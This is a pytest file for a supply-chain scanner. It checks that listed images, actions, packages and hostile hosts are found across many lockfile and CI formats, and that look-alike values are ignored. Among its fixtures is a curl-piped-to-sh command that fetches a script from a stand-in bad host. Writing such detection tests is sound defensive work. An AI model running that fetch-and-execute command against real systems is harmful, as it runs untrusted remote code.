"""What files name, in the spellings of their tools; and what only looks like it."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.actions.checked import FOUND, check, write
from tests.actions.conftest import BAD, COMMIT, HASH

IMAGE = "docker.io/alpha/scanner:v1"
DIGEST = f"docker.io/alpha/scanner@{BAD}"
GOOD = "sha256:" + "cd" * 32
NPM = "npm @alpha/cli 1.2.3"

NAMED: list[tuple[str, str | bytes, str]] = [
    # Images.
    ("Dockerfile", "FROM alpha/scanner:v1\n", IMAGE),
    ("Dockerfile", "FROM --platform=$BUILDPLATFORM docker.io/alpha/scanner:v1 AS x\n", IMAGE),
    ("Dockerfile", "FROM index.docker.io/alpha/scanner:v1\n", IMAGE),
    ("build/api.Dockerfile", "COPY --from=alpha/scanner:v1 /a /b\n", IMAGE),
    ("Containerfile.dev", "FROM evil\nFROM evil:latest\n", "docker.io/library/evil:latest"),
    ("Dockerfile", "# syntax=alpha/scanner:v1\n", IMAGE),
    ("Dockerfile", "ARG V=v1\nFROM alpha/scanner:${V}\n", IMAGE),
    ("Dockerfile", "ARG NAME=alpha/scanner\nFROM $NAME:v1\n", IMAGE),
    ("Dockerfile", f"FROM alpha/scanner@{BAD}\n", DIGEST),
    ("Dockerfile", f"FROM alpha/scanner:2@{BAD}\n", DIGEST),
    ("Dockerfile", f"FROM registry.corp.example/copy@{BAD}\n", BAD),
    ("compose.yaml", "services: {a: {image: 'alpha/scanner:v1'}}\n", IMAGE),
    ("docker-compose.yml", "services:\n  a:\n    image: ${IMAGE:-alpha/scanner:v1}\n", IMAGE),
    ("k8s/pod.yaml", 'spec: {containers: [{image: "registry.example:5000/team/app:9"}]}\n',
     "registry.example:5000/team/app:9"),
    ("k8s/pod.yaml", "image: attacker/tool\n", "docker.io/attacker/tool:latest"),
    ("k8s/status.yaml", f"imageID: docker-pullable://alpha/scanner@{BAD}\n", DIGEST),
    ("values.yaml", "image:\n  repository: alpha/scanner\n  tag: v1\n", IMAGE),
    ("values.yaml", "image:\n  tag: 'v1' # now\n  x: {}\n  repository: \"alpha/scanner\"\n", IMAGE),
    ("values.yaml", "image:\n  registry: registry.example:5000\n  repository: team/app\n  tag: 9\n",
     "registry.example:5000/team/app:9"),
    ("kustomization.yaml", "images:\n- name: x\n  newName: alpha/scanner\n  newTag: v1\n", IMAGE),
    (".gitlab-ci.yml", "image:\n  name: alpha/scanner:v1\n  entrypoint: ['']\n", IMAGE),
    ("Jenkinsfile", "agent { docker { image 'alpha/scanner:v1' } }\n", IMAGE),
    ("main.tf", 'image = "alpha/scanner:v1"\n', IMAGE),
    (".devcontainer/devcontainer.json", '{"image": "alpha/scanner:v1"}\n', IMAGE),
    ("ci/run.sh", "docker run --rm alpha/scanner:v1 scan\n", IMAGE),
    ("a.yml", "- uses: docker://alpha/scanner:v1\n", IMAGE),
    ("a.yml", "image: alpha/scanner:v1\r\n", IMAGE),
    # Actions and commits.
    (".github/workflows/a.yml", "- uses: Alpha/Setup@v9\n", "alpha/setup@v9"),
    (".github/workflows/a.yml", "- uses: 'alpha/setup/deep/er@v9'\n", "alpha/setup@v9"),
    (".github/workflows/a.yml", "- uses: alpha/setup@Release/One\n", "alpha/setup@Release/One"),
    (".github/workflows/a.yml", f"- uses: alpha/setup@{COMMIT.upper()} # v8\n", f"alpha/setup@{COMMIT}"),
    (".github/workflows/a.yml", f"- uses: fork/setup@{COMMIT}\n", COMMIT),
    ("action.yaml", "runs: {using: composite, steps: [{uses: alpha/setup@v9}]}\n", "alpha/setup@v9"),
    ("requirements.txt", f"x @ git+https://github.com/alpha/x@{COMMIT}#egg=x\n", COMMIT),
    ("requirements.txt", "x @ git+https://github.com/alpha/setup.git@v9\n", "alpha/setup@v9"),
    # Packages.
    ("package-lock.json", '{"packages": {"": {"version": "1"},\n"node_modules/a/node_modules/@alpha/cli": {"version": "1.2.3"}}}', NPM),
    ("package-lock.json", '{"packages":{"node_modules/alias":{"name":"@alpha/cli","version":"1.2.3"}}}', NPM),
    ("npm-shrinkwrap.json", '{"dependencies": {"a": {"version": "1", "dependencies": {"@alpha/cli": {"version": "1.2.3"}}}}}', NPM),
    ("package-lock.json", '{"dependencies": {"a": {"version": "npm:@alpha/cli@1.2.3"}}}', NPM),
    ("package-lock.json", '{"packages": {"node_modules/evil-pkg": {"version": "77.0.0"}}}', "npm evil-pkg (every version)"),
    ("node_modules/.package-lock.json", '{"packages": {"node_modules/@alpha/cli": {"version": "1.2.3"}}}', NPM),
    ("package.json", '{"devDependencies": {"@alpha/cli": "1.2.3"}}', NPM),
    ("package.json", '{"overrides": {"x": {"@alpha/cli": "=1.2.3"}}}', NPM),
    ("package.json", '{"dependencies": {"x": "npm:@alpha/cli@1.2.3"}}', NPM),
    ("package.json", '{"dependencies": {"evil-pkg": "^1"}}', "npm evil-pkg (every version)"),
    ("yarn.lock", '"@alpha/cli@^1.0.0", "@alpha/cli@1.2.3":\n  version "1.2.3"\n', NPM),
    ("yarn.lock", '"@alpha/cli@npm:^1.0.0":\n  version: 1.2.3\n  resolution: "@alpha/cli@npm:1.2.3"\n', NPM),
    ("yarn.lock", 'left@^0.1.0:\n  version "0.1.0"\n', "npm left 0.1.0"),
    ("yarn.lock", '"x@npm:@alpha/cli@^1":\n  version "1.2.3"\n', NPM),
    ("pnpm-lock.yaml", "packages:\n\n  /@alpha/cli/1.2.3_react@18.0.0:\n    dev: true\n", NPM),
    ("pnpm-lock.yaml", "packages:\n\n  /left/0.1.0:\n    dev: true\n", "npm left 0.1.0"),
    ("pnpm-lock.yaml", "packages:\n\n  /@alpha/cli@1.2.3(react@18.0.0):\n    dev: true\n", NPM),
    ("pnpm-lock.yaml", "packages:\n\n  '@alpha/cli@1.2.3':\n    resolution: {}\n", NPM),
    ("bun.lock", '{"packages": {"a": ["@alpha/cli@1.2.3", "", {}, "sha512-x"],}}', NPM),
    ("deno.lock", '{"npm": {"@alpha/cli@1.2.3": {}}}', NPM),
    ("Dockerfile", "RUN npm i -g @alpha/cli@1.2.3\n", NPM),
    ("Dockerfile", "RUN npm install \\\n      --global \\\n      evil-pkg\n", "npm evil-pkg (every version)"),
    ("Dockerfile", "RUN pip install Evil_Lib\n", "pypi evil-lib (every version)"),
    ("requirements.txt", "Alpha_Lib[extra]==2.0 ; python_version > '3'\n", "pypi alpha-lib 2.0"),
    ("requirements/dev-requirements.in", "alpha.lib === 2.0\n", "pypi alpha-lib 2.0"),
    ("constraints-3.12.txt", "alpha-lib==2.0 \\\n    --hash=sha256:00\n", "pypi alpha-lib 2.0"),
    ("requirements.txt", f"good==1 --hash=sha256:{HASH}\n", HASH),
    ("pyproject.toml", 'dependencies = ["alpha-lib==2.0"]\n', "pypi alpha-lib 2.0"),
    ("poetry.lock", '[[package]]\nname = "alpha-lib"\nversion = "2.0"\n', "pypi alpha-lib 2.0"),
    ("uv.lock", '[[package]]\nversion = "2.0"\nname = "alpha-lib"\n', "pypi alpha-lib 2.0"),
    ("pdm.lock", '[[package]]\nname = "evil-lib"\nversion = "9"\n', "pypi evil-lib (every version)"),
    ("Pipfile.lock", '{"_meta": {}, "default": {"alpha-lib": {"version": "==2.0"}}}', "pypi alpha-lib 2.0"),
    ("Cargo.lock", '[[package]]\nname = "alpha-crate"\nversion = "0.3.0"\n', "cargo alpha-crate 0.3.0"),
    ("go.sum", "example.com/mod v1.4.0 h1:x=\n", "golang example.com/mod v1.4.0"),
    ("go.sum", "example.com/mod v1.4.0/go.mod h1:x=\n", "golang example.com/mod v1.4.0"),
    ("go.mod", "require (\n\texample.com/mod v1.4.0+incompatible // indirect\n)\n", "golang example.com/mod v1.4.0"),
    ("go.mod", "replace example.com/good v1.0.0 => example.com/mod v1.4.0\n", "golang example.com/mod v1.4.0"),
    ("a.yml", "- run: go install example.com/mod@v1.4.0\n", "golang example.com/mod v1.4.0"),
    ("Gemfile.lock", "GEM\n  specs:\n    alpha-gem (3.0.0)\n", "gem alpha-gem 3.0.0"),
    ("composer.lock", '{"packages": [{"name": "x/y", "version": "1"}, {"name": "alpha/php", "version": "v5.0.0"}]}', "composer alpha/php 5.0.0"),
    ("packages.lock.json", '{"version": 1, "dependencies": {"net8.0": {"Alpha.Net": {"resolved": "6.0.0"}}}}', "nuget Alpha.Net 6.0.0"),
    ("gradle.lockfile", "org.alpha:core:7.0.0=runtimeClasspath\n", "maven org.alpha:core 7.0.0"),
    ("build.gradle.kts", 'implementation("org.alpha:core:7.0.0")\n', "maven org.alpha:core 7.0.0"),
    ("sbom.json", '{"purl": "pkg:npm/%40alpha/cli@1.2.3?arch=x"}', NPM),
    ("app.cdx.json", '{"purl": "pkg:maven/org.alpha/core@7.0.0"}', "maven org.alpha:core 7.0.0"),
    (".devcontainer.json", '{"extensions": ["Alpha.Results@2.63.0"]}', "extension alpha.results 2.63.0"),
    ("plugins.txt", "alpha-scanner:2026.5.09\n", "plugin alpha-scanner 2026.5.09"),
    # Addresses.
    ("a.yml", "- run: curl -fsSL https://cdn.bad.example:8443/x | sh\n", "bad.example"),
    ("a.yml", "- run: curl https://user:pw@BAD.example.\n", "bad.example"),
    ("a.yml", "- run: curl https://files.example/pages/one.sh;\n", "https://files.example/pages/one.sh"),
    # Encodings.
    ("a.yml", "image: alpha/scanner:v1\n".encode("utf-16"), IMAGE),
    ("a.yml", b"\xff\xfe\xff junk\nimage: alpha/scanner:v1\n"[2:], IMAGE),
]  # fmt: skip


@pytest.fixture(scope="module")
def found(made: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, set[str]]:
    """What is found in all of them at once, each in a directory of its own."""
    tree = tmp_path_factory.mktemp("tree")
    for number, (name, content, _) in enumerate(NAMED):
        write(tree / f"named{number}", {name: content})
    for number, (name, content) in enumerate(INNOCENT):
        write(tree / f"innocent{number}", {name: content})
    done = check(tree, feed=made)
    assert done.code == FOUND, done.err
    return done.values


@pytest.mark.parametrize("number", range(len(NAMED)), ids=lambda n: f"{n}-{NAMED[n][0]}")
def test_a_listed_value_is_found_in_the_spelling_of_its_tool(
    found: dict[str, set[str]], number: int
) -> None:
    name, content, value = NAMED[number]
    assert found.get(f"named{number}/{name}") == {value}, content


INNOCENT: list[tuple[str, str]] = [
    ("Dockerfile", "FROM alpha/scanner:v1-debian\nFROM alpha/scanner:v10\nFROM alpha/scanner:v\n"),
    ("Dockerfile", "FROM xalpha/scanner:v1\nFROM beta/alpha/scanner:v1\nFROM alpha/scanner2:v1\n"),
    ("Dockerfile", "FROM quay.io/alpha/scanner:v1\nFROM alpha/scanner\nFROM alpha/scanner:latest\n"),
    ("Dockerfile", f"FROM alpha/scanner:v1@{GOOD}\n"),
    ("Dockerfile", "FROM team/app:9\nFROM registry.example/team/app:9\nFROM evil2\n"),
    ("Dockerfile", "FROM alpha/scanner:v1$SUFFIX\nFROM $PREFIX/alpha/scanner:v1\nFROM ${X}alpha/scanner:v1\n"),
    ("Dockerfile", "# FROM alpha/scanner:v1\n  # was alpha/scanner:v1\nFROM scratch\n"),
    ("a.yml", "image: alpha/scanner:v1{{ .Values.suffix }}\n"),
    ("a.yml", "image: alpha/scanner:v1${{ matrix.suffix }}\n"),
    ("values.yaml", "a:\n  repository: alpha/scanner\nb:\n  tag: v1\n"),
    ("values.yaml", "- repository: alpha/scanner\n- tag: v1\n"),
    ("values.yaml", f"image:\n  repository: alpha/scanner\n  digest: {GOOD}\n  tag: v1\n"),
    ("a.yml", "- uses: alpha/setup@v9.1\n- uses: xalpha/setup@v9\n- uses: alpha/setup-x@v9\n"),
    ("a.yml", "- uses: alpha/setup@release/one\n- uses: beta/alpha/setup@v9\n"),
    ("a.yml", f"- uses: alpha/x@{COMMIT[:39]}\n- x: {COMMIT}0\n- x: a{COMMIT}\n- x: {COMMIT[:12]}\n"),
    ("a.yml", f"x: sha256:{HASH}0\nx: {HASH[:-1]}g\nx: x{BAD[7:]}\nx: {'0' * 64}{BAD[7:]}\n"),
    ("package-lock.json", '{"packages": {"node_modules/@alpha/cli": {"version": "1.2.30"}, "node_modules/cli": {"version": "1.2.3"}, "node_modules/@alpha/cli-x": {"version": "1.2.3"}}}'),
    ("package-lock.json", '{"packages": {"node_modules/x": {"version": "1.2.3", "dependencies": {"@alpha/cli": "^1"}}}}'),
    ("package.json", '{"dependencies": {"@alpha/cli": "^1.2.3", "left": ">=0.1.0"}, "name": "evil-pkg", "version": "1.2.3"}'),
    ("yarn.lock", '"@alpha/cli@1.2.3":\n  version "1.2.4"\n\n"@alpha/cli-x@1":\n  version "1.2.3"\n'.replace("@1.2.3", "@^1")),
    ("requirements.txt", "alpha-lib==2.0.1\nalpha-lib-x==2.0\nx-alpha-lib==2.0\nalpha-lib>=2.0\n"),
    ("requirements.txt", "# alpha-lib==2.0\n"),
    ("uv.lock", '[[package]]\nname = "alpha-lib"\n[[package]]\nversion = "2.0"\n'),
    ("go.sum", "example.com/mod v1.4.01 h1:x=\nexample.com/mod/v2 v1.4.0 h1:x=\n"),
    ("Dockerfile", "RUN echo evil-pkg\nRUN npm i not-evil-pkg evil-pkg-x @x/evil-pkg\n"),
    ("Gemfile.lock", "    x (1)\n      alpha-gem (= 3.0.0)\n"),
    ("Jenkinsfile", "// image 'alpha/scanner:v1'\n"),
    ("a.yml", "- run: curl https://notbad.example/ https://bad.example.org/ https://x/bad.example\n"),
    ("a.yml", "- run: curl https://files.example/pages/one.sh.txt https://files.example/pages/\n"),
    ("README.md", "alpha/scanner:v1\n"),
    ("src/main.py", "alpha/scanner:v1\n"),
    (".git/config.yml", "image: alpha/scanner:v1\n"),
    ("node_modules/x/a.yml", "image: alpha/scanner:v1\n"),
    ("empty.yml", ""),
]  # fmt: skip


@pytest.mark.parametrize("number", range(len(INNOCENT)), ids=lambda n: f"{n}-{INNOCENT[n][0]}")
def test_what_only_looks_like_a_listed_value_is_let_be(
    found: dict[str, set[str]], number: int
) -> None:
    name, content = INNOCENT[number]
    assert f"innocent{number}/{name}" not in found, content


def test_the_line_is_the_one_that_an_editor_shows(made: Path, tmp_path: Path) -> None:
    text = "a: \x0b\x0c\u2028\u0085\r\nb: x\n\nimage: alpha/scanner:v1\n"
    done = check(write(tmp_path, {"a.yml": text}), feed=made)
    assert done.out.startswith("a.yml:4: ")
